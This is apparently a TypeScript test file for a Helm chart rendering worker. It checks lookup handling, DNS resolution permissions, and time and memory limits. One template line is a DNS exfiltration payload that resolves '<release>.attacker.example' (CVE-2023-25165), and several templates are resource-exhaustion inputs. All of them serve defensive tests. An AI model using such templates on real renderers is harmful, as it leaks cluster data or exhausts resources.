import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { after, afterEach, before, describe, it } from 'node:test';
import { setImmediate } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import { defaultCapabilities } from '../../../engines/helm/render/capabilities.ts';
import type { JobThreadOptions } from '../../../runtime/job-thread.ts';
import type { Refused, RenderedRelease, RenderRequest } from './render-request.ts';
import { type RenderLimits, RenderThread } from './render-thread.ts';

const signal = new AbortController().signal;
const limits: RenderLimits = { signal, timeoutMs: 30_000 };

async function packed(files: Readonly<Record<string, string>>): Promise<Uint8Array> {
  const tar = pack();
  for (const [name, text] of Object.entries(files)) tar.entry({ name }, text);
  tar.finalize();
  return gzipSync(await buffer(tar));
}

describe('RenderThread', () => {
  let dir = '';
  let thread: RenderThread | undefined;

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sluice-render-'));
  });
  after(() => rm(dir, { recursive: true, force: true }));
  afterEach(() => thread?.close());

  async function request(name: string, template: string, more: Partial<RenderRequest> = {}): Promise<RenderRequest> {
    const path = join(dir, `${name}.tgz`);
    const chart = 'apiVersion: v2\nname: shop\nversion: 1.0.0\n';
    await writeFile(path, await packed({ 'shop/Chart.yaml': chart, 'shop/templates/a.yaml': template }));
    return {
      task: 'render',
      chart: { path, digest: name },
      values: 'size: 3\n',
      release: { name: 'rel', namespace: 'ns', revision: 1, isUpgrade: false },
      capabilities: defaultCapabilities,
      ...more,
    };
  }

  function begin(options: JobThreadOptions = {}): RenderThread {
    thread = new RenderThread(options);
    return thread;
  }

  const contents = (answer: RenderedRelease | Refused): readonly string[] =>
    'failed' in answer ? [answer.failed] : answer.manifests.map(({ content }) => content);

  it('renders', async () => {
    const made = await begin().render(
      await request('plain', 'kind: A\nname: {{ .Release.Name }}\nsize: {{ .Values.size }}\n'),
      limits,
    );
    assert.deepEqual(contents(made), ['kind: A\nname: rel\nsize: 3\n']);
  });

  it('asks the process what lookup finds, and waits for the answer', async () => {
    const template = `kind: A
found: {{ (lookup "v1" "Secret" "ns" "s").data.key }}
missing: {{ lookup "v1" "Secret" "ns" "none" | empty }}
`;
    const lookup: RenderLimits['lookup'] = async ({ apiVersion, kind, namespace, name }) => {
      await setImmediate();
      return name === 's' ? { data: { key: `${apiVersion}/${kind}/${namespace}` } } : undefined;
    };
    const made = await begin().render(await request('lookup', template), { ...limits, lookup });
    assert.deepEqual(contents(made), ['kind: A\nfound: v1/Secret/ns\nmissing: true\n']);
  });

  it('fails with what lookup failed with', async () => {
    const asked = await request('refused', '{{ lookup "v1" "Secret" "ns" "s" }}');
    const lookup = (): Promise<never> => Promise.reject(new Error('secrets "s" is forbidden'));
    const made = await begin().render(asked, { ...limits, lookup });
    assert.match(contents(made).join(), /error calling lookup: secrets "s" is forbidden\n {2}1 \| \{\{ lookup "v1"/);
  });

  it('finds nothing where nobody answers', async () => {
    const made = await begin().render(
      await request('alone', 'kind: {{ lookup "v1" "Secret" "ns" "s" | len }}'),
      limits,
    );
    assert.deepEqual(contents(made), ['kind: 0']);
  });

  const secretive = 'address: {{ getHostByName (printf "%s.attacker.example" .Release.Name) | quote }}';

  // CVE-2023-25165: names that templates make up carry values out of the cluster.
  it('looks up no host unless it may', async () => {
    const renders = begin();
    const asked = await request('dns-denied', secretive);
    assert.deepEqual(contents(await renders.render(asked, limits)), ['address: ""']);
    const lookup = (): Promise<undefined> => Promise.reject(new Error('asked for a name'));
    assert.deepEqual(contents(await renders.render(asked, { ...limits, lookup })), ['address: ""']);
  });

  it('asks the process for the addresses of a host, and takes the first', async () => {
    const hosts: string[] = [];
    const addresses: RenderLimits['addresses'] = async (host) => {
      await setImmediate();
      hosts.push(host);
      return ['192.0.2.1', '192.0.2.2'];
    };
    const asked = await request('dns', `${secretive}\nmissing: {{ lookup "v1" "Secret" "ns" "s" | empty }}`);
    const made = await begin().render(asked, { ...limits, addresses });
    assert.deepEqual(contents(made), ['address: "192.0.2.1"\nmissing: true']);
    assert.deepEqual(hosts, ['rel.attacker.example']);
  });

  it('fails with what the search for a host failed with', async () => {
    const addresses = (): Promise<never> => Promise.reject(new Error('lookup of host x: no such host'));
    const made = await begin().render(await request('dns-refused', secretive), { ...limits, addresses });
    assert.match(contents(made).join(), /error calling getHostByName: lookup of host x: no such host/);
  });

  for (const [what, template, message] of [
    ['a list without end', '{{ range until 1000000000 }}x{{ end }}', /more than/],
    [
      'includes without end',
      '{{ define "a" }}{{ include "a" . }}{{ end }}{{ include "a" . }}',
      /nested reference name: a/,
    ],
    [
      'texts within texts without end',
      '{{ define "a" }}{{ tpl "{{ include \\"a\\" . }}" . }}{{ end }}{{ include "a" . }}',
      /shop/,
    ],
    ['a loop in a loop', '{{ range until 100000 }}{{ range until 100000 }}{{ end }}{{ end }}', /more than/],
  ] as const)
    it(`ends ${what}, and lets others work meanwhile`, async () => {
      const renders = begin();
      let turns = 0;
      let isDone = false;
      const made = renders.render(await request(what, template), limits).finally(() => {
        isDone = true;
      });
      while (!isDone) {
        turns++;
        await setImmediate();
      }
      assert.match(contents(await made).join(), message);
      assert.ok(turns > 1, 'the process was held up');
      assert.deepEqual(contents(await renders.render(await request('next', 'kind: B'), limits)), ['kind: B']);
    });

  it('ends what takes too long, and renders the next in another thread', async () => {
    const renders = begin();
    const endless = await request('endless', '{{ range until 100000 }}{{ range until 100000 }}{{ end }}{{ end }}', {
      limits: { maxSteps: Infinity, maxUnits: Infinity, maxMs: Infinity },
    });
    assert.deepEqual(await renders.render(endless, { signal, timeoutMs: 50 }), {
      failed: 'the chart cannot be rendered: it takes longer than 50ms',
    });
    assert.deepEqual(contents(await renders.render(await request('after', 'kind: C'), limits)), ['kind: C']);
  });

  it('ends what takes too much memory', async () => {
    const renders = begin({ maxMemoryMb: 16 });
    const large = await request(
      'large',
      '{{ $l := list }}{{ range until 1000000 }}{{ $l = append $l (dict "a" .) }}{{ end }}',
      {
        limits: { maxSteps: Infinity, maxUnits: Infinity, maxMs: Infinity },
      },
    );
    assert.deepEqual(await renders.render(large, limits), {
      failed: 'the chart cannot be rendered: it needs more than 16 MiB of memory',
    });
  });
});
